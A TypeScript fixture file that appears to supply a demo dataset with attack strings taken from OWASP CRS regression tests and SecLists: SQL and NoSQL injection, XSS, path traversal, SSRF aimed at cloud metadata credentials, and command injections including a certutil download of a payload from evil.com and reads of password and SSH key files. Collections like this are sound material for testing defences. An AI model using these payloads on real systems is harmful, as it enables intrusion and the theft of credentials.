/**
 * A small curated sample of real attack strings used by the demo dataset.
 *
 * Sources (values copied verbatim, sometimes only the attacked parameter value):
 * - OWASP CRS (Core Rule Set) regression tests, https://github.com/coreruleset/coreruleset
 *   (commit 2cbd1d019cb7c85319ba4d9102a382c9de7a8e53), Apache License 2.0.
 * - SecLists `Fuzzing/XSS`, https://github.com/danielmiessler/SecLists, MIT License.
 * The licence texts are in test/fixtures/LICENSE-coreruleset.txt and LICENSE-SecLists.txt.
 *
 * These are inert strings: the UI renders them as text only.
 */
export const ATTACK_PAYLOADS = {
  sqli: [
    "1 union select 1,2,3,4,5,6,7,8,9,10,11,12,CONCAT('vbulletin','rce',@@version)",
    "/path/to/file/unitests.txt') UNION ALL select NULL --",
    "x'-email--",
    "admin@example.com'and not sqlite_compileoption_get (id)--",
    "SeleCT sLeEp (mOD(10,5))",
    "' and 1 in (select min(name) from sysobjects where xtype = 'U' and name > '.') --",
    "SELECT x GROUP BY SOMETHING HAVING COUNT(Id) >= 9",
    "OR '{\"b\":2}'::jsonb <@ '{\"a\":1, \"b\":2}'",
    "\" WAITFOR DELAY '\n",
    "xor 1234567890<",
    "id'not glob-id--",
    "; sleep(0)",
    "AND 7639=(",
    "(CONVERT(INT,(SELECT CHAR(113)+CHAR(118)+CHAR(112)+CHAR(113)+CHAR(113)))))",
  ],
  nosql: [
    '{"$ne": null}',
    '{"$text": "foo"}',
    '{"$elemMatch": "foo"}',
    '{"$nor": "foo"}',
    '{"$exists": true}',
    '[$lte]asdfsd',
    '[$regex]=.*',
  ],
  cmd: [
    'gunzip -c /var/log/sensitive_log_file.gz',
    ';at 2:00 "echo test"',
    'ti\'\'me curl coreruleset.org',
    '; certutil -urlcache -f http://evil.com/payload.exe',
    '; mshta http://example.com',
    'cat /[?]tc/pa[?]swd',
    '/bi[n]/bash',
    'busybox -c "echo hi"',
    '|$u wget test',
    'pi>()ng 127.0.0.1',
    '`cut crs312``dig 34test`',
    ';+cat+/e\'t\'*/pa\'?s\'wd',
    'time sh -c whoami',
  ],
  xss: [
    '<script>confirm(1)</script>',
    '1<svg onload=alert(1)>',
    '\'><img src=x onError=prompt("OpenBugBounty")>',
    '<details open ontoggle=alert(1)>',
    '<video/poster/onerror=alert()>',
    '</script><svg><script>alert(1)//',
    '<svg%0Aonauxclick=0;[1].some(confirm)//',
    '<scRiPt y="><">/*<sCRipt* */prompt()</script',
    '<x \'="foo"><x foo=\'><img src=x onerror=javascript:alert(1)//\'>',
    '<embed src="javascript:alert(1)">',
    '<a href="javascript:\\u0061lert(1)">X',
    '<body onpageshow=alert(1)>',
  ],
  traversal: [
    '../../../../../../../../../../usr/local/apps/apache2/conf/httpd.conf%00',
    '0x2e.%000x2f0x2e.%00/WINDOWS/win.ini',
    '..\\pineapple',
    '../.history',
    '/etc/passwd%00',
    '.ssh/id_rsa',
    '/proc/self/environ',
    '..%2f..%2f..%2fetc%2fshadow',
  ],
  ssrf: [
    'http://169.254.169.254/latest/meta-data/iam/security-credentials/',
    'http://[0:0:0:0:0:ffff:169.254.169.254]',
    'http://0xA9.0xFE.0xA9.0xFE/',
    'http://0251.0376.0251.0376/',
    'http://2852039166/',
    'http://192.0.0.192/latest/user-data/',
    'kubernetes.default.svc.cluster.local/',
    'host.docker.internal/',
    'http:127.0.0.1',
    'http://google.com:80 &@google.com:80# @127.88.23.245:22/',
    'ssh://0177.00.00.01',
  ],
} as const;

export type PayloadFamily = keyof typeof ATTACK_PAYLOADS;

/** "test=" + Java serialisation magic bytes (CRS 944200), base64: a non-UTF-8 body. */
export const JAVA_SERIALIZED_BODY_BASE64 = 'dGVzdD2s7QAFDQoNCg==';
